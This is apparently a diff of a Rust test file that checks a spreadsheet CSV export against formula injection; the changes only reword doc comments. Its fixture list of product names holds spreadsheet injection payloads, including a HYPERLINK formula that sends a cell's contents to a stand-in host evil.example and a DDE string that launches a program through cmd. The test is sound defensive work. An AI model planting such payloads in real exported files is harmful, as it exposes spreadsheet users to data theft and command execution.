@@ -1,5 +1,5 @@
-//! Tables that somebody opens in a spreadsheet: no cell of them is run there, numbers stay numbers, and what was written so is
-//! imported as it was.
+//! Tables for spreadsheets: no cell of them is executed there, numbers stay numbers, and an import restores the
+//! original texts.
 
 use super::api::Api;
 use super::process::{Node, onhand, run};
@@ -8,7 +8,7 @@ use serde_json::json;
 use std::fs;
 use tempfile::TempDir;
 
-/// What people, or a bad supplier's list, call products.
+/// Product names, some of them hostile.
 const NAMES: [(&str, &str); 8] = [
     ("A", "=HYPERLINK(\"http://evil.example/?\"&B2;\"sale\")"),
     ("B", "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -20,7 +20,7 @@ const NAMES: [(&str, &str); 8] = [
     ("H", "\u{ff1d}1+1"),
 ];
 
-/// All rows of a table; no cell of it may be run.
+/// All rows of a table; no cell of it may be executable.
 async fn table(api: &Api, path: &str) -> Vec<csv::StringRecord> {
     let reply = api.get_with(path, &[("accept", "text/csv")]).await;
     let mut reader =
@@ -95,7 +95,7 @@ async fn no_cell_is_run_and_the_import_reads_it_back() {
     second.stop();
 }
 
-/// The report of what was refused has the cells as they were, for whoever mends them; they are not run either.
+/// The report of rejected rows has the cells as they were, for correction; they are not executed either.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_report_is_no_program() {
     let directory = TempDir::new().unwrap();
